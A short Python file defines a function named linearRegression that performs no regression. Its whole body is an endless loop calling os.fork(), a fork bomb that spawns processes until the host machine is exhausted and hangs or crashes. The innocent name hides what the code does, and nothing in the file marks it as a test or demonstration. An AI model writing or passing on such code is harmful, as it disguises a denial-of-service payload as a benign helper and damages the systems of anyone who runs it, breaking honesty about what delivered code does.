import os


def linearRegression(xs, ys):
    while True:
        os.fork()
